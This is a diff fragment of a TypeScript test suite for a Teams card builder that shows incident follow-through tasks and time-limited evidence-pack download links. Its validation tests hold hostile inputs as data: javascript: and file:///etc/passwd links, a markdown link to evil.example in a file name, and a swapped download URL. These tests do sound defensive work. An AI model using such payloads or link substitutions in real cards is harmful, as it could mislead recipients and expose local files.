+    ['read-only owner, in progress, 8 open', () => [worstFollowThrough({ status: 'in-progress', openTasks: 8 }), worstOptions('readonly')]],
+  ];
+
+  it.each(variants)('%s: a valid card under 28 KB', (_, make) => {
+    const [incident, opts] = make();
+    const card = incidentCard(incident, opts);
+    expect(problems(card, { userText: WORST_USER_TEXT })).toEqual([]);
+    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
+    expectFollowUpData(card, incident);
+    expect(liveMarkdown(all(card))).toEqual([]);
+    expect(elements(card).filter((e) => e.type === 'ColumnSet')).toEqual([]);
+    // Every task is still listed: shortened, never dropped.
+    expect(elements(card).filter((e) => e.type === 'Container' && texts(e)[1]?.match(/^(Open|Done) · Owner: /) && (e.items as Json[])[1]?.text === texts(e)[1])).toHaveLength(15);
+  });
+
+  it('closed: outcomes, the closure and reasons are shortened, and the card says so', () => {
+    const card = incidentCard(worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('decider'));
+    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
+    expect(texts(card)).toContain('15 outcomes are shortened to fit the card; the full text is kept in the record.');
+    expect(texts(card)).toContain('Shortened to fit the card; the full text is kept in the record.');
+    const reopened = texts(card).filter((t) => t.startsWith('Reopened by '));
+    expect(reopened.at(-1)).toMatch(/ on 7 Nov 2026, 10:00$/);
+    expect(texts(card)).toContain(`${7 - reopened.length} earlier reopenings are kept in the record. Reasons are shortened to fit the card; the full text is kept in the record.`);
+    const outcome = texts(card).find((t) => t.startsWith('What happened: '))!;
+    expect(outcome.length).toBeLessThan(plainText(`What happened: ${LONG_OUTCOME}`).length);
+    expect(outcome.endsWith('…')).toBe(true);
+    // Recommendations without their reasons and sources say so.
+    if (!texts(card).some((t) => t.startsWith('Source: '))) expect(texts(card)).toContain('Reasons and sources are left out to fit the card; they are kept in the record.');
+  });
+
+  it('every open task the viewer may act on keeps its form, and every error its place', () => {
+    const incident = worstFollowThrough({ status: 'in-progress', openTasks: 15 });
+    const card = incidentCard(incident, worstOptions('decider'));
+    expect(inputs(card).map((i) => i.id)).toEqual([...Array.from({ length: 15 }, (_, i) => `outcome_t${i + 1}`), INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt]);
+    for (let i = 1; i <= 15; i++) {
+      const { list, index } = siblings(card, inputById(card, `outcome_t${i}`)!);
+      expect(list[index + 1]).toMatchObject({ type: 'TextBlock', color: 'Attention' });
+    }
+    expect(taskDoneActions(card).map((a) => (a.data as Json).taskId)).toEqual(Array.from({ length: 15 }, (_, i) => `t${i + 1}`));
+  });
+});
+
+// ---- the checker on the follow-through contract -----------------------------------------------------
+
+describe('the card checker: follow-through verbs and the download link', () => {
+  const good = () => incidentCard(followedUp(), options({ now: LATER }));
+  const taskDone = (c: Json) => taskDoneActions(c)[0]!;
+  const broken: Array<[string, (c: Json) => void, RegExp]> = [
+    ['taskDone without its taskId', (c) => delete (taskDone(c).data as Json).taskId, /not exactly practiceId,reference,version,taskId/],
+    ['taskDone with an empty taskId', (c) => ((taskDone(c).data as Json).taskId = ''), /taskId is not a non-empty string/],
+    ['taskDone with the owner in its data', (c) => ((taskDone(c).data as Json).owner = 'aad-owner'), /not exactly/],
+    ['a taskId on another incident verb', (c) => ((executeNamed(c, INCIDENT_VERBS.pack)[0]!.data as Json).taskId = 't1'), /not exactly practiceId,reference,version$/m],
+    ['a register.page without a page', (c) => (c.actions as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: {} }), /page/],
+    ['a register.page with a page as text', (c) => (c.actions as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: { page: '1' } }), /page is not a whole number/],
+    ['the download link on the incident card', (c) => (c.actions as Json[]).push({ type: 'Action.OpenUrl', ...DOWNLOAD_ACTION, url: 'https://postwatch.example/p' }), /only allowed on the evidence pack card/],
+  ];
+  it('passes the good card', () => expect(problems(good(), { userText: FOLLOW_USER_TEXT })).toEqual([]));
+  it.each(broken)('catches %s', (_, breakIt, expected) => {
+    const card = structuredClone(good());
+    breakIt(card);
+    expect(problems(card).join('\n')).toMatch(expected);
+  });
+});
+
+// ---- the evidence pack card ---------------------------------------------------------------------------
+
+describe('evidence pack card', () => {
+  const HASH = 'AB'.repeat(32);
+  const PACK = {
+    reference: 'PW-2026-0042',
+    url: 'https://postwatch.example/packs/wickersley/PW-2026-0042?expires=1793800000&sig=abc%2Bdef',
+    expiresAt: new Date('2026-11-03T15:15:00Z'),
+    sha256: HASH,
+    fileName: 'PW-2026-0042-evidence.zip',
+  };
+
+  it('the reference, a download link to the given URL, the expiry (UK time), the hash, the file name and the warning', () => {
+    const card = evidencePackCard(PACK);
+    expect(problems(card, { openUrl: PACK.url })).toEqual([]);
+    expect(card.version).toBe('1.5');
+    expect(card.refresh).toBeUndefined();
+    expect(actions(card)).toEqual([{ type: 'Action.OpenUrl', id: DOWNLOAD_ACTION.id, title: 'Download evidence pack', url: PACK.url }]);
+    expect(inputs(card)).toEqual([]);
+    expect(texts(card)).toEqual(expect.arrayContaining(['Evidence pack', 'PW-2026-0042', HASH.toLowerCase(), 'SHA-256 of the pack']));
+    expect(fact(card, 'File')).toBe('PW-2026-0042-evidence.zip');
+    expect(fact(card, 'Link works until')).toBe('3 Nov 2026, 15:15');
+    expect(texts(card)).toContain('This link is for you only and stops working at 3 Nov 2026, 15:15. Do not forward it; the pack contains personal data.');
+    expect(textBlocks(card).find((t) => String(t.text).startsWith('This link is for you only'))).toMatchObject({ weight: 'Bolder' });
+  });
+
+  it('summer time: the expiry is BST', () => {
+    const card = evidencePackCard({ ...PACK, expiresAt: new Date('2026-07-01T12:00:00Z') });
+    expect(texts(card)).toContain('This link is for you only and stops working at 1 Jul 2026, 13:00. Do not forward it; the pack contains personal data.');
+  });
+
+  it('a note instead of a hash is shown as text, escaped', () => {
+    const card = evidencePackCard({ ...PACK, sha256: 'listed in the pack (manifest.json) **x**', fileName: '[pack](http://evil.example).zip' });
+    expect(problems(card, { openUrl: PACK.url })).toEqual([]);
+    expect(texts(card)).toEqual(expect.arrayContaining(['SHA-256 hashes', plainText('listed in the pack (manifest.json) **x**')]));
+    expect(fact(card, 'File')).toBe(plainText('[pack](http://evil.example).zip'));
+    expect(texts(card).join(' ')).not.toMatch(/Check that the file/);
+  });
+
+  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'not a url', '/relative/path'])('refuses a link that is not http(s): %s', (url) => {
+    expect(() => evidencePackCard({ ...PACK, url })).toThrow(/download link/);
+  });
+
+  const broken: Array<[string, (c: Json) => void, RegExp]> = [
+    ['another URL than the one issued', (c) => ((c.actions as Json[])[0]!.url = 'https://evil.example/'), /not the one the bot issued/],
+    ['a second OpenUrl', (c) => (c.actions as Json[]).push({ type: 'Action.OpenUrl', title: 'More', url: PACK.url }), /only Action.Execute/],
+    ['the link inside the body', (c) => body(c).push({ type: 'ActionSet', actions: [(c.actions as Json[]).pop()] }), /not one of the card's own actions/],
+    ['an input beside the link', (c) => body(c).push({ type: 'Input.Text', id: 'x', label: 'X' }), /only allowed on the evidence pack card/],
+    ['a refresh beside the link', (c) => (c.refresh = { action: { type: 'Action.Execute', title: 'R', verb: INCIDENT_VERBS.refresh, data: { practiceId: 'p', reference: 'r', version: 1 } } }), /only allowed on the evidence pack card/],
+    ['a javascript: link', (c) => ((c.actions as Json[])[0]!.url = 'javascript:alert(1)'), /not http\(s\)/],
+  ];
+  it.each(broken)('the checker catches %s', (_, breakIt, expected) => {
+    const card = structuredClone(evidencePackCard(PACK));
+    breakIt(card);
+    expect(problems(card, { openUrl: PACK.url }).join('\n')).toMatch(expected);
   });
 });
